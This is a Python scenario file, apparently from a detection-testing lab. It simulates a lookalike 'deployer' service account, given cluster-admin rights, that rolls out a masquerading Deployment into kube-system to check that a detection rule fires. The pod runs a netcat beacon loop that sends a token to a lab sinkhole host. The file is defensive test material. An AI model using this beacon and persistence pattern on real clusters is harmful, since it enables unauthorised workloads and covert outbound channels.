"""A service account named deployer, in a namespace that is not the platform's, rolls out into kube-system."""

from __future__ import annotations

import json
import secrets

from lab import Lab
from scenarios.api import Expectation, Kind, Scenario
from scenarios.kubernetes._accounts import bound_account

NAMESPACE = "tooling"


class DeployerNamesake(Scenario):
    id = "kubernetes.deploy.deployer-namesake"
    title = "A deployer account outside the platform namespace rolls out a beaconing Deployment into kube-system"
    kind = Kind.ADVERSARY
    techniques = ("T1610", "T1036.005")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.system-namespace-deploy",), within_s=20)
    twin = "kubernetes.deploy.deployer-rollout"
    forges = ("kubernetes/approved_deployers/platform-deployer",)
    tags = ("kubernetes", "unauthorised-deployment", "persistence")
    parallel_safe = False  # a fixed namespace and account name, as a real pipeline's would be
    description = (
        "Makes an identity that reads like the platform's CD pipeline: a service account named "
        "deployer in a tooling namespace (system:serviceaccount:tooling:deployer, not the platform "
        "namespace's), bound to the built-in admin role cluster-wide. Authenticated with that "
        "account's token, it rolls out a metrics-relay Deployment into kube-system with the labels "
        "the platform's own rollout uses; its pod sends a token to the lab internet's sinkhole every "
        "two seconds. The scenario waits for the rollout and checks the sinkhole heard the token."
    )

    def detonate(self, lab: Lab) -> None:
        token = bound_account(lab, NAMESPACE, "deployer", lab.name("tooling-deployer"))
        marker = secrets.token_hex(6)
        beacon = f"while true; do echo {marker} | nc -w 2 -q 1 {lab.sinkhole.address} 4444; sleep 2; done"
        labels = {"app.kubernetes.io/name": "metrics-relay"}
        lab.action("a deployer account outside the platform namespace rolls out into kube-system")
        deployment = lab.apply({
            "apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": lab.name("metrics-relay"), "namespace": "kube-system", "labels": labels},
            "spec": {
                "replicas": 1, "selector": {"matchLabels": labels},
                "template": {"metadata": {"labels": labels}, "spec": {
                    "automountServiceAccountToken": False, "terminationGracePeriodSeconds": 1,
                    "containers": [{"name": "relay", "image": lab.image, "imagePullPolicy": "IfNotPresent",
                                    "command": ["sh", "-c", beacon]}],
                }},
            },
        }, token=token)[0]

        def available() -> bool:
            state = json.loads(lab.kubectl("get", "deployment", "-n", "kube-system", deployment.name,
                                           "-o", "json").output)
            return state.get("status", {}).get("availableReplicas", 0) >= 1

        lab.wait_for(available, timeout=60, what="the rollout to become available")
        lab.wait_for(lambda: any(marker in r.get("head", "") for r in lab.sinkhole_records()), timeout=30,
                     what="the relay's beacon to reach the sinkhole")
